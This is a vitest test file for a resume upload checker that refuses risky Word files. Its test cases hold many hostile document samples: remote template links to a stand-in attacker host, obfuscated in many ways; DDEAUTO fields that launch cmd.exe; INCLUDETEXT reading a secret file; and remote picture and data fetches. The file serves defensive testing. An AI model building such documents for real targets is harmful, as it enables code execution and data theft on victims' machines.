import { aDocx, anOoxml, linksPart } from '#tests/factories/resume.ts';
import { describe, expect, it } from 'vitest';
import { resumeTypeOf } from './resume-type.ts';

const outcome = (bytes: Buffer) =>
  resumeTypeOf(bytes).catch((error: { reason?: string }) => error.reason ?? String(error));
const body = (content: string) =>
  anOoxml({ root: `<w:document xmlns:w="x"><w:body><w:p>${content}</w:p></w:body></w:document>` });
const template = (target: string) =>
  aDocx([
    { name: 'word/settings.xml', content: '<w:settings xmlns:w="x"/>' },
    linksPart('word/_rels/settings.xml.rels', 'attachedTemplate', target),
  ]);
const linked = (type: string, target = 'https://evil.example/x') =>
  aDocx([linksPart('word/_rels/document.xml.rels', type, target)]);

describe('a template', () => {
  it.each([
    'https://evil.example/t.dotm',
    'HTTP://evil.example/t.dotm',
    'ftp://evil.example/t.dotm',
    'file://evil.example/t.dotm',
    'file:////evil.example/share/t.dotm',
    'file:///\\\\evil.example\\share\\t.dotm',
    'file:\\\\evil.example\\share\\t.dotm',
    'file:///%5C%5Cevil.example\\t.dotm',
    'file:///\\\\?\\UNC\\evil.example\\share\\t.dotm',
    'file:///??/UNC/evil.example/share/t.dotm',
    '\\\\evil.example\\share\\t.dotm',
    '//evil.example/share/t.dotm',
    '/\\evil.example\\t.dotm',
    '\\\\evil.example@80\\dav\\t.dotm',
    ' https://evil.example/t.dotm',
    'ht&#9;tps://evil.example/t.dotm',
    'h&#x74;tps://evil.example/t.dotm',
    'mhtml:https://evil.example/t!x',
    'ms-word:ofe|u|https://evil.example/t',
    'ldap://evil.example/x',
    'https://evil.example/a>b.dotm',
  ])('at %s is refused', async (target) => {
    expect(await outcome(template(target))).toBe('remote');
  });

  it.each([
    'file:///C:\\Users\\Asha\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm',
    'file:///C:/Users/Asha%20Menon/Normal.dotm',
    'file://C:\\Users\\Asha\\Normal.dotm',
    'C:\\Users\\Asha\\Normal.dotm',
    'file:///Users/asha/Library/Group%20Containers/UBF8T346G9.Office/Normal.dotm',
    'file://localhost/Users/asha/Normal.dotm',
    'file:///home/asha/Vorlage.dotx',
    '/Applications/Microsoft%20Word.app/Normal.dotm',
    'Normal.dotm',
    '..\\Templates\\Resume.dotx',
  ])('at %s, where its writer’s program left it, is not', async (target) => {
    expect(await outcome(template(target))).toBe('docx');
  });
});

describe('parts that come from elsewhere', () => {
  it.each([
    ['a picture', linked('image')],
    ['an object', linked('oleObject')],
    ['a workbook of a chart', linked('package')],
    ['another document', linked('subDocument')],
    ['a frame', linked('frame')],
    ['a list of addresses', linked('mailMergeSource', 'file:////evil.example/list.mdb')],
    ['a film', linked('video')],
    ['what nobody has heard of', linked('somethingNew')],
    [
      'a picture of a header',
      aDocx([linksPart('word/_rels/header1.xml.rels', 'image', 'https://evil.example/x.png')]),
    ],
    [
      'a link of the settings, by whatever name they go',
      aDocx([
        { name: 'word/other.xml', content: '<w:settings xmlns:w="x"/>' },
        linksPart('word/_rels/other.xml.rels', 'hyperlink', 'https://evil.example/t.dotm'),
      ]),
    ],
    [
      'a link behind a megabyte of comment',
      aDocx([
        {
          name: 'word/_rels/document.xml.rels',
          content: `<Relationships><!--${noise(1_200_000)}--><Relationship Id="a" Type="x/image" Target="https://evil.example/x" TargetMode="External"/></Relationships>`,
        },
      ]),
    ],
    [
      'two targets, one harmless',
      aDocx([
        {
          name: 'word/_rels/document.xml.rels',
          content:
            '<Relationships><Relationship Id="a" Type="x/image" Target="https://evil.example/x" b:Target="a.png"/></Relationships>',
        },
      ]),
    ],
    [
      'a drawing',
      body('<w:pict><v:shape><v:imagedata src="https://evil.example/x.png"/></v:shape></w:pict>'),
    ],
    [
      'a server that is asked for addresses',
      aDocx([
        {
          name: 'word/settings.xml',
          content:
            '<w:settings><w:mailMerge><w:connectString w:val="Provider=SQLOLEDB;Data Source=evil.example;"/></w:mailMerge></w:settings>',
        },
      ]),
    ],
  ])('%s', async (_, bytes) => {
    expect(await outcome(bytes)).toBe('remote');
  });

  it.each([
    ['a document built in', linked('aFChunk', 'afchunk.html')],
    ['a document from elsewhere built in', linked('aFChunk')],
    ['the place where it is built in', body('<w:altChunk r:id="r1"/>')],
  ])('%s', async (_, bytes) => {
    expect(await outcome(bytes)).toBe('embedded');
  });

  it.each([
    ['links one has to press', linked('hyperlink')],
    ['a link to a share one has to press', linked('hyperlink', 'file://server/share/cv.pdf')],
    ['a picture on the writer’s disk', linked('image', 'file:///C:\\Users\\Asha\\photo.jpg')],
    ['a picture of a mail', linked('image', 'cid:image001.png@01D9')],
    [
      'addresses on the writer’s disk',
      aDocx([
        {
          name: 'word/settings.xml',
          content:
            '<w:settings><w:mailMerge><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\Users\\Asha\\list.xlsx;Mode=Read"/></w:mailMerge></w:settings>',
        },
      ]),
    ],
    [
      'a part of another program in another encoding',
      aDocx([{ name: 'customXml/item1.xml', content: Buffer.from('\ufeff<a>b</a>', 'utf16le') }]),
    ],
    ['a part that is no XML', aDocx([{ name: 'customXml/item2.xml', content: '<a><b></a>' }])],
  ])('but not %s', async (_, bytes) => {
    expect(await outcome(bytes)).toBe('docx');
  });
});

describe('fields', () => {
  const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  const piece = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
  const field = (...pieces: string[]) =>
    body(
      `${char('begin')}${pieces.map(piece).join('')}${char('separate')}<w:r><w:t>x</w:t></w:r>${char('end')}`,
    );
  const command = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';

  it.each([
    ['DDEAUTO', field(` DDEAUTO ${command} `)],
    ['DDE', field(` DDE ${command} `)],
    ['small letters', field(` ddeauto ${command} `)],
    ['a word cut in pieces', field('D', 'DEA', 'UTO ', command)],
    [
      'pieces in paragraphs of their own',
      body(`${char('begin')}${piece('DDE')}</w:p><w:p>${piece(`AUTO ${command}`)}${char('end')}`),
    ],
    ['no end', body(`${char('begin')}${piece(`DDEAUTO ${command}`)}`)],
    ['no beginning', body(piece(`DDEAUTO ${command}`))],
    [
      'one that is deleted',
      body(`${char('begin')}<w:r><w:delInstrText>DDEAUTO ${command}</w:delInstrText></w:r>${char('end')}`),
    ],
    ['the short form', body(`<w:fldSimple w:instr='DDEAUTO ${command}'/>`)],
    ['the short form under another prefix', body(`<a:fldSimple b:instr='DDEAUTO ${command}'/>`)],
    [
      'one inside another',
      body(
        `${char('begin')}${piece('IF ')}${char('begin')}${piece(`DDEAUTO ${command}`)}${char('end')}${char('end')}`,
      ),
    ],
    [
      'one behind a field that gives nothing',
      body(
        `${char('begin')}${char('begin')}${piece('SET a b')}${char('end')}${piece(` DDEAUTO ${command}`)}${char('end')}`,
      ),
    ],
    ['invisible letters', field('D&#x200b;DEAUTO x')],
    [
      'a section that is not marked up',
      body(`${char('begin')}<w:r><w:instrText><![CDATA[DDEAUTO x]]></w:instrText></w:r>${char('end')}`),
    ],
    ['text of a file', field('INCLUDETEXT "C:\\\\secret.txt"')],
    ['a database', field('DATABASE \\d "x"')],
    [
      'a header',
      aDocx([{ name: 'word/header1.xml', content: `<w:hdr><w:fldSimple w:instr="DDEAUTO x"/></w:hdr>` }]),
    ],
    [
      'a note in two bytes to a letter',
      aDocx([
        {
          name: 'word/footnotes.xml',
          content: Buffer.from('\ufeff<w:x><w:fldSimple w:instr="DDEAUTO x"/></w:x>', 'utf16le'),
        },
      ]),
    ],
  ])('that start something are refused: %s', async (_, bytes) => {
    expect(await outcome(bytes)).toBe('activeFields');
  });

  it.each([
    ['a picture of a site', field('INCLUDEPICTURE "https://evil.example/x.png" \\* MERGEFORMATINET')],
    ['a picture of a share', field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\x.png"')],
    ['a picture of a share, written once', field('INCLUDEPICTURE \\\\evil.example\\x.png \\d')],
    [
      'a picture whose place is worked out',
      body(
        `${char('begin')}${piece('INCLUDEPICTURE "')}${char('begin')}${piece('QUOTE 104 116')}${char('end')}${piece('"')}${char('end')}`,
      ),
    ],
    [
      'an object of a share',
      field('LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\b.xlsx" "Sheet1!R1C1:R5C5" \\a'),
    ],
    ['in the short form', body(`<w:fldSimple w:instr='INCLUDEPICTURE "http://evil.example/x"'/>`)],
  ])('that fetch something are refused: %s', async (_, bytes) => {
    expect(await outcome(bytes)).toBe('remote');
  });

  it.each([
    ['the number of the page', field(' PAGE ')],
    ['a link', field(' HYPERLINK "https://asha.example" ')],
    ['a date', field(' DATE \\@ "d MMMM yyyy" ')],
    [
      'a picture as Word for Mac leaves it',
      field(
        'INCLUDEPICTURE "/var/folders/x/T/com.microsoft.Word/WebArchiveCopyPasteTempFiles/page1image1" \\* MERGEFORMATINET',
      ),
    ],
    [
      'a table of the writer’s disk',
      field('LINK Excel.Sheet.12 "C:\\\\Users\\\\Asha\\\\b.xlsx" "Sheet1!R1C1:R5C5" \\a \\f 0'),
    ],
    ['words that name one', body('<w:r><w:t>DDEAUTO and INCLUDETEXT are old fields of Word.</w:t></w:r>')],
  ])('that do neither are not: %s', async (_, bytes) => {
    expect(await outcome(bytes)).toBe('docx');
  });
});

describe('XML that plays tricks', () => {
  it.each([
    ['a document type', anOoxml({ root: '<!DOCTYPE a [<!ENTITY b "c">]><w:document>&b;</w:document>' })],
    ['another encoding', anOoxml({ root: '<w:document/>', head: '<?xml version="1.0" encoding="utf-7"?>' })],
    [
      'more depth than any document has',
      anOoxml({ root: `<w:document>${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</w:document>` }),
    ],
    [
      'two main parts',
      anOoxml({ moreRootLinks: '<Relationship Id="r2" Type="x/officeDocument" Target="word/b.xml"/>' }),
    ],
  ])('%s', async (_, bytes) => {
    expect(await outcome(bytes)).toBe('damaged');
  });
});

// Text that packs badly, or the archive would look like a bomb.
function noise(length: number): string {
  let text = '';
  for (let state = 7; text.length < length;) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    text += state.toString(36);
  }
  return text.slice(0, length);
}
